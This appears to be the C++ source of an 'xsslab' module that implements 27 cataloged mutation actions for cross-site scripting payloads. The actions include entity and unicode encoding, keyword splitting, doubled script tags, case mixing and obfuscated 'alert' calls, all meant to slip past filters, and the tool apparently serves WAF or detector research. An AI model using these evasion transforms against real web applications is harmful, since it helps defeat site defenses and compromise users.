#include "xsslab/mutations.hpp"

#include <algorithm>
#include <array>
#include <cctype>
#include <charconv>
#include <cstdio>
#include <functional>

#include "xsslab/text.hpp"

namespace xsslab::mutations {
namespace {

using text::ascii_lower;
using text::is_space;

constexpr std::array<std::string_view, 15> kSingleTags = {
    "area", "base", "br", "col", "embed", "hr", "img", "image", "input", "keygen", "link", "meta",
    "param", "source", "wbr"};

bool is_name_char(char c) { return text::is_alpha(c) || (c >= '0' && c <= '9'); }

// A start tag (or end tag) located in a raw payload.
struct TagSite {
  std::size_t open = 0;        // index of '<'
  std::size_t name_begin = 0;
  std::size_t name_end = 0;
  std::size_t close = 0;       // index of the terminating '>', or npos
  bool end_tag = false;
};

// Position of the '>' that ends the tag whose name ends at `from`; quotes
// following '=' are honoured. npos when the tag runs to the end of input.
std::size_t find_tag_close(std::string_view s, std::size_t from) {
  bool after_equals = false;
  for (std::size_t i = from; i < s.size(); ++i) {
    const char c = s[i];
    if (c == '>') return i;
    if ((c == '"' || c == '\'') && after_equals) {
      const std::size_t q = s.find(c, i + 1);
      if (q == std::string_view::npos) return std::string_view::npos;
      i = q;
      after_equals = false;
      continue;
    }
    if (c == '=') {
      after_equals = true;
    } else if (!is_space(c)) {
      after_equals = false;
    }
  }
  return std::string_view::npos;
}

std::vector<TagSite> find_tags(std::string_view s) {
  std::vector<TagSite> tags;
  for (std::size_t i = 0; i + 1 < s.size(); ++i) {
    if (s[i] != '<') continue;
    const bool end_tag = s[i + 1] == '/';
    const std::size_t name_begin = i + (end_tag ? 2 : 1);
    if (name_begin >= s.size() || !text::is_alpha(s[name_begin])) continue;
    std::size_t name_end = name_begin;
    while (name_end < s.size() && is_name_char(s[name_end])) ++name_end;
    tags.push_back({i, name_begin, name_end, find_tag_close(s, name_end), end_tag});
  }
  return tags;
}

// Uppercases characters at even offsets of the span.
std::string mix_case(std::string_view s) {
  std::string out(s);
  for (std::size_t i = 0; i < out.size(); i += 2) {
    if (out[i] >= 'a' && out[i] <= 'z') out[i] = static_cast<char>(out[i] - 32);
  }
  return out;
}

// Case-insensitive replacement of every occurrence of `needle`.
std::string replace_all_ci(std::string_view s, std::string_view needle,
                           const std::function<std::string(std::string_view)>& replacement) {
  std::string out;
  out.reserve(s.size());
  std::size_t i = 0;
  while (i < s.size()) {
    if (text::istarts_with(s.substr(i), needle)) {
      out += replacement(s.substr(i, needle.size()));
      i += needle.size();
    } else {
      out += s[i++];
    }
  }
  return out;
}

std::size_t find_ci(std::string_view s, std::string_view needle, std::size_t from) {
  for (std::size_t i = from; i + needle.size() <= s.size(); ++i) {
    if (text::istarts_with(s.substr(i), needle)) return i;
  }
  return std::string_view::npos;
}

std::string replace_all_ci(std::string_view s, std::string_view needle, std::string_view replacement) {
  return replace_all_ci(s, needle, [&](std::string_view) { return std::string(replacement); });
}

// Edits expressed as (begin, end, replacement) over the original string.
struct Edit {
  std::size_t begin;
  std::size_t end;
  std::string replacement;
};

std::string apply_edits(std::string_view s, std::vector<Edit> edits) {
  std::sort(edits.begin(), edits.end(), [](const Edit& a, const Edit& b) { return a.begin < b.begin; });
  std::string out;
  std::size_t cursor = 0;
  for (const auto& e : edits) {
    if (e.begin < cursor) continue;  // overlapping edit, first one wins
    out.append(s.substr(cursor, e.begin - cursor));
    out += e.replacement;
    cursor = e.end;
  }
  out.append(s.substr(cursor));
  return out;
}

// Regions holding JavaScript: event-handler attribute values and the code
// after a "javascript:" scheme. With `include_script_bodies`, also the
// contents of <script> elements.
std::vector<std::pair<std::size_t, std::size_t>> js_code_regions(std::string_view s, bool include_script_bodies) {
  std::vector<std::pair<std::size_t, std::size_t>> regions;
  for (const auto& tag : find_tags(s)) {
    if (tag.end_tag) continue;
    const std::size_t limit = tag.close == std::string_view::npos ? s.size() : tag.close;
    std::size_t i = tag.name_end;
    while (i < limit) {
      const bool at_name = (is_space(s[i - 1]) || s[i - 1] == '/') && text::istarts_with(s.substr(i), "on") &&
                           i + 2 < limit && text::is_alpha(s[i + 2]);
      if (!at_name) {
        ++i;
        continue;
      }
      std::size_t j = i + 2;
      while (j < limit && text::is_alpha(s[j])) ++j;
      while (j < limit && is_space(s[j])) ++j;
      if (j >= limit || s[j] != '=') {
        i = j;
        continue;
      }
      ++j;
      while (j < limit && is_space(s[j])) ++j;
      if (j < limit && (s[j] == '"' || s[j] == '\'')) {
        const std::size_t q = s.find(s[j], j + 1);
        const std::size_t end = q == std::string_view::npos ? s.size() : q;
        if (end > j + 1) regions.emplace_back(j + 1, end);
        i = end + 1;
      } else {
        std::size_t end = j;
        while (end < s.size() && !is_space(s[end]) && s[end] != '>') ++end;
        if (end > j) regions.emplace_back(j, end);
        i = end;
      }
    }
    if (include_script_bodies && text::iequals(s.substr(tag.name_begin, tag.name_end - tag.name_begin), "script") &&
        tag.close != std::string_view::npos) {
      std::size_t close = tag.close + 1;
      std::size_t end = close;
      while (end < s.size() && !text::istarts_with(s.substr(end), "</script")) ++end;
      if (end > close) regions.emplace_back(close, end);
    }
  }
  constexpr std::string_view kScheme = "javascript:";
  for (std::size_t i = 0; i + kScheme.size() <= s.size(); ++i) {
    if (!text::istarts_with(s.substr(i), kScheme)) continue;
    std::size_t k = i;
    while (k > 0 && is_space(s[k - 1])) --k;
    const char quote = (k > 0 && (s[k - 1] == '"' || s[k - 1] == '\'')) ? s[k - 1] : '\0';
    const std::size_t begin = i + kScheme.size();
    std::size_t end = begin;
    if (quote) {
      const std::size_t q = s.find(quote, begin);
      end = q == std::string_view::npos ? s.size() : q;
    } else {
      while (end < s.size() && !is_space(s[end]) && s[end] != '>') ++end;
    }
    if (end > begin) regions.emplace_back(begin, end);
  }
  // Nested regions (a handler value containing "javascript:") keep the outer one.
  std::sort(regions.begin(), regions.end());
  std::vector<std::pair<std::size_t, std::size_t>> merged;
  for (const auto& r : regions) {
    if (!merged.empty() && r.first < merged.back().second) {
      merged.back().second = std::max(merged.back().second, r.second);
    } else {
      merged.push_back(r);
    }
  }
  return merged;
}

// Length of a numeric character reference ("&#97;", "&#x61;") at i, or 0.
std::size_t numeric_reference_at(std::string_view s, std::size_t i) {
  if (s.substr(i, 2) != "&#") return 0;
  std::size_t j = i + 2;
  const bool hex = j < s.size() && (s[j] == 'x' || s[j] == 'X');
  if (hex) ++j;
  const std::size_t digits = j;
  while (j < s.size() && (hex ? std::isxdigit(static_cast<unsigned char>(s[j])) : std::isdigit(static_cast<unsigned char>(s[j])))) ++j;
  if (j == digits || j >= s.size() || s[j] != ';') return 0;
  return j + 1 - i;
}

// Existing numeric references are kept, so re-encoding is a no-op.
std::string entity_encode(std::string_view code, bool hex) {
  std::string out;
  char buf[16];
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (const std::size_t n = numeric_reference_at(code, i)) {
      out.append(code.substr(i, n));
      i += n - 1;
      continue;
    }
    std::snprintf(buf, sizeof buf, hex ? "&#x%02x;" : "&#%d;", static_cast<unsigned char>(code[i]));
    out += buf;
  }
  return out;
}

std::string unicode_escape_letters(std::string_view code) {
  std::string out;
  char buf[8];
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (const std::size_t n = numeric_reference_at(code, i)) {
      out.append(code.substr(i, n));
      i += n - 1;
      continue;
    }
    if (code[i] == '\\' && i + 1 < code.size() && code[i + 1] == 'u') {
      // keep existing \uXXXX escapes intact
      const std::size_t n = std::min<std::size_t>(6, code.size() - i);
      out.append(code.substr(i, n));
      i += n - 1;
      continue;
    }
    if (text::is_alpha(code[i])) {
      std::snprintf(buf, sizeof buf, "\\u%04x", static_cast<unsigned char>(code[i]));
      out += buf;
    } else {
      out += code[i];
    }
  }
  return out;
}

std::string encode_js_code(std::string_view s, bool include_script_bodies,
                           const std::function<std::string(std::string_view)>& encode) {
  std::vector<Edit> edits;
  for (const auto& [begin, end] : js_code_regions(s, include_script_bodies)) {
    edits.push_back({begin, end, encode(s.substr(begin, end - begin))});
  }
  return apply_edits(s, std::move(edits));
}

// Inserts `infix` inside every "javascript" keyword, between "java" and "script".
std::string split_javascript(std::string_view s, std::string_view infix) {
  return replace_all_ci(s, "javascript", [&](std::string_view m) {
    return std::string(m.substr(0, 4)) + std::string(infix) + std::string(m.substr(4));
  });
}

std::string for_each_tag_name(std::string_view s, bool include_end_tags,
                              const std::function<std::string(std::string_view)>& rewrite) {
  std::vector<Edit> edits;
  for (const auto& tag : find_tags(s)) {
    if (tag.end_tag && !include_end_tags) continue;
    edits.push_back({tag.name_begin, tag.name_end, rewrite(s.substr(tag.name_begin, tag.name_end - tag.name_begin))});
  }
  return apply_edits(s, std::move(edits));
}

bool is_single_tag(std::string_view s, const TagSite& tag) {
  const std::string name = ascii_lower(s.substr(tag.name_begin, tag.name_end - tag.name_begin));
  return !tag.end_tag && tag.close != std::string_view::npos &&
         std::find(kSingleTags.begin(), kSingleTags.end(), name) != kSingleTags.end();
}

std::string rewrite_single_tag_close(std::string_view s, std::string_view replacement) {
  std::vector<Edit> edits;
  for (const auto& tag : find_tags(s)) {
    if (is_single_tag(s, tag)) edits.push_back({tag.close, tag.close + 1, std::string(replacement)});
  }
  return apply_edits(s, std::move(edits));
}

std::string a1(std::string_view s) {
  std::vector<Edit> edits;
  for (std::size_t i = 0; (i = find_ci(s, "javascript", i)) != std::string_view::npos; i += 10) {
    if (i >= 4 && s.substr(i - 4, 4) == "&#14") continue;
    edits.push_back({i, i, "&#14"});
  }
  return apply_edits(s, std::move(edits));
}

std::string a2(std::string_view s) {
  std::vector<Edit> edits;
  for (const auto& tag : find_tags(s)) {
    if (tag.end_tag) continue;
    const std::size_t limit = tag.close == std::string_view::npos ? s.size() : tag.close;
    std::size_t i = tag.name_end;
    bool after_equals = false;
    while (i < limit) {
      const char c = s[i];
      if ((c == '"' || c == '\'') && after_equals) {
        const std::size_t q = s.find(c, i + 1);
        i = q == std::string_view::npos ? limit : q + 1;
        after_equals = false;
        continue;
      }
      if (c == '=') {
        // skip an unquoted value
        after_equals = true;
        ++i;
        while (i < limit && is_space(s[i])) ++i;
        if (i < limit && s[i] != '"' && s[i] != '\'') {
          while (i < limit && !is_space(s[i])) ++i;
          after_equals = false;
        }
        continue;
      }
      if (text::is_alpha(c) && (is_space(s[i - 1]) || s[i - 1] == '/' || s[i - 1] == '"' || s[i - 1] == '\'')) {
        std::size_t j = i;
        while (j < limit && (is_name_char(s[j]) || s[j] == '-' || s[j] == '_' || s[j] == ':')) ++j;
        std::size_t k = j;
        while (k < limit && is_space(s[k])) ++k;
        if (k < limit && s[k] == '=') edits.push_back({i, j, mix_case(s.substr(i, j - i))});
        i = j;
        continue;
      }
      ++i;
    }
  }
  return apply_edits(s, std::move(edits));
}

std::string a3(std::string_view s) {
  std::string out(s);
  for (const auto& tag : find_tags(s)) {
    if (tag.end_tag) continue;
    const std::size_t limit = tag.close == std::string_view::npos ? s.size() : tag.close;
    bool after_equals = false;
    for (std::size_t i = tag.name_end; i < limit; ++i) {
      const char c = s[i];
      if ((c == '"' || c == '\'') && after_equals) {
        const std::size_t q = s.find(c, i + 1);
        i = q == std::string_view::npos ? limit : q;
        after_equals = false;
        continue;
      }
      if (c == ' ') {
        out[i] = '/';
      } else if (c == '=') {
        after_equals = true;
        continue;
      }
      after_equals = false;
    }
  }
  return out;
}

// Either half of an earlier double write: "<scr" followed by '<', or the
// inner "<script>" directly preceded by "<scr".
bool already_doubled(std::string_view s, const TagSite& tag) {
  if (tag.name_end < s.size() && s[tag.name_end] == '<') return true;
  std::size_t k = tag.name_begin - 1;  // the '<'
  if (k == 0 || !text::is_alpha(s[k - 1])) return false;
  while (k > 0 && text::is_alpha(s[k - 1])) --k;
  return k > 0 && s[k - 1] == '<';
}

std::string a9(std::string_view s) {
  std::vector<Edit> edits;
  for (const auto& tag : find_tags(s)) {
    const std::size_t len = tag.name_end - tag.name_begin;
    if (tag.end_tag || len < 2 || already_doubled(s, tag)) continue;
    const std::string_view name = s.substr(tag.name_begin, len);
    const std::size_t half = len / 2;
    edits.push_back({tag.name_begin, tag.name_end,
                     std::string(name.substr(0, half)) + "<" + std::string(name) + ">" + std::string(name.substr(half))});
  }
  return apply_edits(s, std::move(edits));
}

std::string a12(std::string_view s) {
  return replace_all_ci(s, "javascript:", [](std::string_view m) { return std::string(m.substr(0, 10)) + "&colon;"; });
}

std::string a14(std::string_view s) {
  std::vector<Edit> edits;
  for (const auto& tag : find_tags(s)) {
    if (tag.end_tag || !text::iequals(s.substr(tag.name_begin, tag.name_end - tag.name_begin), "script")) continue;
    if (s.substr(tag.name_end, 6) == "/drfv/") continue;
    edits.push_back({tag.name_end, tag.name_end, "/drfv/"});
  }
  return apply_edits(s, std::move(edits));
}

std::string a15(std::string_view s) {
  std::string out(s);
  std::replace(out.begin(), out.end(), '(', '`');
  std::replace(out.begin(), out.end(), ')', '`');
  return out;
}

std::string a16(std::string_view s) {
  std::vector<Edit> edits;
  constexpr std::string_view kScheme = "data:";
  for (std::size_t i = 0; i + kScheme.size() <= s.size(); ++i) {
    if (!text::istarts_with(s.substr(i), kScheme)) continue;
    const std::size_t comma = s.find(',', i + kScheme.size());
    if (comma == std::string_view::npos || comma - i > 80) continue;
    const std::string_view mediatype = s.substr(i + kScheme.size(), comma - i - kScheme.size());
    if (std::any_of(mediatype.begin(), mediatype.end(), [](char c) { return is_space(c) || c == '"' || c == '\''; }) ||
        text::ascii_lower(mediatype).find(";base64") != std::string::npos) {
      continue;
    }
    std::size_t k = i;
    while (k > 0 && is_space(s[k - 1])) --k;
    const char quote = (k > 0 && (s[k - 1] == '"' || s[k - 1] == '\'')) ? s[k - 1] : '\0';
    std::size_t end = comma + 1;
    if (quote) {
      const std::size_t q = s.find(quote, end);
      end = q == std::string_view::npos ? s.size() : q;
    } else {
      while (end < s.size() && !is_space(s[end])) ++end;
    }
    if (end == comma + 1) continue;
    edits.push_back({comma, end, ";base64," + text::base64_encode(s.substr(comma + 1, end - comma - 1))});
    i = end;
  }
  return apply_edits(s, std::move(edits));
}

std::string a17(std::string_view s) {
  std::string out;
  for (char c : s) {
    if (c != '"' && c != '\'') out += c;
  }
  return out;
}

std::string a19(std::string_view s) {
  return replace_all_ci(s, "javascript", [](std::string_view m) { return entity_encode(m, false); });
}

std::string insert_after_start_tag_names(std::string_view s, std::string_view infix) {
  std::vector<Edit> edits;
  for (const auto& tag : find_tags(s)) {
    if (!tag.end_tag) edits.push_back({tag.name_end, tag.name_end, std::string(infix)});
  }
  return apply_edits(s, std::move(edits));
}

std::string rewrite(std::string_view s, int id) {
  switch (id) {
    case 1: return a1(s);
    case 2: return a2(s);
    case 3: return a3(s);
    case 4: return for_each_tag_name(s, true, mix_case);
    case 5: return rewrite_single_tag_close(s, "");
    case 6: return split_javascript(s, "&NewLine;");
    case 7: return split_javascript(s, "&#x09");
    case 8: return encode_js_code(s, false, [](std::string_view c) { return entity_encode(c, true); });
    case 9: return a9(s);
    case 10: return replace_all_ci(s, "http://", "//");
    case 11: return encode_js_code(s, false, [](std::string_view c) { return entity_encode(c, false); });
    case 12: return a12(s);
    case 13: return split_javascript(s, "&Tab;");
    case 14: return a14(s);
    case 15: return a15(s);
    case 16: return a16(s);
    case 17: return a17(s);
    case 18: return encode_js_code(s, true, unicode_escape_letters);
    case 19: return a19(s);
    case 20: return rewrite_single_tag_close(s, "<");
    case 21: return replace_all_ci(s, "alert", "top['al' + 'ert']");
    case 22: return replace_all_ci(s, "alert", "top[8680439..toString(30)]");
    case 23: return std::string(kInterferenceString) + std::string(s);
    case 24: return insert_after_start_tag_names(s, "/**/");
    case 25: return replace_all_ci(s, "javascript", "vbscript");
    case 26: return insert_after_start_tag_names(s, "%00");
    case 27: return replace_all_ci(s, "alert", "top[/al/.source + /ert/.source]");
    default: throw ConfigError("unknown action id " + std::to_string(id));
  }
}

using enum Category;

constexpr std::array<Action, kActionCount> kRegistry{{
    {1, "A1", Insertion, "Add \"&#14\" before \"javascript\"", "prefix every \"javascript\" (any case) with \"&#14\""},
    {2, "A2", Case, "Mixed case HTML attributes",
     "uppercase even-offset letters of every attribute name followed by '=' inside a start tag"},
    {3, "A3", Structure, "Replace spaces with \"/\", \"%0A\" or \"%0D\"",
     "replace every space inside a start tag (outside quoted values) with '/'"},
    {4, "A4", Case, "Mixed case HTML tags", "uppercase even-offset letters of every start/end tag name"},
    {5, "A5", Structure, "Remove the closing symbol of the single tags",
     "delete the terminating '>' of every void-element start tag"},
    {6, "A6", Insertion, "Add \"&NewLine;\" to \"javascript\"", "\"javascript\" -> \"java&NewLine;script\""},
    {7, "A7", Insertion, "Add \"&#x09\" to \"javascript\"", "\"javascript\" -> \"java&#x09script\""},
    {8, "A8", Encoding, "HTML entity encoding for JS code (hexadecimal)",
     "encode every byte of handler values and javascript: code as &#xHH;"},
    {9, "A9", Structure, "Double write HTML tags", "\"<script\" -> \"<scr<script>ipt\" for every start tag"},
    {10, "A10", KeywordReplacement, "Replace \"http://\" with \"//\"", "\"http://\" -> \"//\""},
    {11, "A11", Encoding, "HTML entity encoding for JS code (decimal)",
     "encode every byte of handler values and javascript: code as &#DD;"},
    {12, "A12", Encoding, "Add \"&colon;\" to \"javascript\"", "\"javascript:\" -> \"javascript&colon;\""},
    {13, "A13", Insertion, "Add \"&Tab;\" to \"javascript\"", "\"javascript\" -> \"java&Tab;script\""},
    {14, "A14", Insertion, "Add string \"/drfv/\" after the script tag", "\"<script\" -> \"<script/drfv/\""},
    {15, "A15", KeywordReplacement, "Replace \"(\" and \")\" with \"`\"", "every '(' and ')' -> '`'"},
    {16, "A16", Encoding, "Encode data protocol with Base64",
     "\"data:<type>,<content>\" -> \"data:<type>;base64,<base64(content)>\""},
    {17, "A17", Structure, "Remove the quotation marks", "delete every '\"' and '\\''"},
    {18, "A18", Encoding, "Unicode encoding for JS code",
     "letters in handler values, javascript: code and script bodies -> \\u00HH"},
    {19, "A19", Encoding, "HTML entity encoding for \"javascript\"", "\"javascript\" -> decimal entities"},
    {20, "A20", Structure, "Replace \">\" of single label with \"<\"",
     "replace the terminating '>' of every void-element start tag with '<'"},
    {21, "A21", KeywordReplacement, "Replace \"alert\" with \"top['al' + 'ert'](1)\"", "\"alert\" -> \"top['al' + 'ert']\""},
    {22, "A22", KeywordReplacement, "Replace \"alert\" with \"top[8680439..toString(30)](1)\"",
     "\"alert\" -> \"top[8680439..toString(30)]\""},
    {23, "A23", Insertion, "Add interference string before the example", "prepend \"?lang=en&q=\""},
    {24, "A24", Insertion, "Add comment into tags", "insert \"/**/\" after every start tag name"},
    {25, "A25", KeywordReplacement, "\"vbscript\" replaces \"javascript\"", "\"javascript\" -> \"vbscript\""},
    {26, "A26", Insertion, "Inject empty byte \"%00\" into tags", "insert \"%00\" after every start tag name"},
    {27, "A27", KeywordReplacement, "Replace \"alert\" with \"top[/al/.source + /ert/.source](1)\"",
     "\"alert\" -> \"top[/al/.source + /ert/.source]\""},
}};

}  // namespace

std::string_view to_string(Category c) {
  switch (c) {
    case Encoding: return "encoding";
    case Case: return "case";
    case Structure: return "structure";
    case KeywordReplacement: return "keyword-replacement";
    case Insertion: return "insertion";
  }
  return "?";
}

std::span<const Action> registry() { return kRegistry; }

const Action& action(int id) {
  if (id < 1 || id > kActionCount) throw ConfigError("unknown action id " + std::to_string(id));
  return kRegistry[static_cast<std::size_t>(id - 1)];
}

int parse_action_id(std::string_view s) {
  if (!s.empty() && (s[0] == 'A' || s[0] == 'a')) s.remove_prefix(1);
  int id = 0;
  const auto [ptr, ec] = std::from_chars(s.data(), s.data() + s.size(), id);
  if (ec != std::errc() || ptr != s.data() + s.size()) throw ConfigError("malformed action id '" + std::string(s) + "'");
  action(id);
  return id;
}

MutationResult apply_action(std::string_view payload, int action_id) {
  action(action_id);
  MutationResult result;
  result.payload = rewrite(payload, action_id);
  result.changed = result.payload != payload;
  result.action_id = action_id;
  return result;
}

std::vector<int> applicable_actions(std::string_view payload) {
  std::vector<int> ids;
  for (int id = 1; id <= kActionCount; ++id) {
    if (apply_action(payload, id).changed) ids.push_back(id);
  }
  return ids;
}

json registry_json() {
  json out = json::array();
  for (const auto& a : kRegistry) {
    out.push_back({{"id", a.id},
                   {"name", a.name},
                   {"category", to_string(a.category)},
                   {"summary", a.summary},
                   {"definition", a.definition}});
  }
  return out;
}

}  // namespace xsslab::mutations
